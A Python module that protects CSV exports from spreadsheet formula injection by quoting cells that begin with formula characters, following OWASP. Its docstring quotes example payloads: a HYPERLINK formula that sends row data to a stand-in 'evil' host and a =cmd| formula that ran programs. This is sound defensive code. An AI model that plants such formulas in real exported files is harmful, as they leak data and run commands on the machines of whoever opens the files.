"""CSV cells that a spreadsheet will not run: formula injection neutralised (OWASP).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1)`` sends the
row elsewhere when clicked; ``=cmd|...`` ran programs on old Excel). Every CSV the project
writes passes its cells through :func:`safe_cell`, which prefixes such a cell with a single
quote, as OWASP's "CSV Injection" page advises. The text is otherwise unchanged, so a reader
that strips one leading quote from these cells gets the original back.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row", "safe_writer"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(c) for c in cells]


class _SafeWriter:
    """A ``csv.writer`` whose rows are neutralised first."""

    def __init__(self, out: Any) -> None:
        self._writer = csv.writer(out)

    def writerow(self, cells: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(cells))


def safe_writer(out: Any) -> _SafeWriter:
    """A CSV writer over ``out`` (a text file) that neutralises formula cells."""
    return _SafeWriter(out)
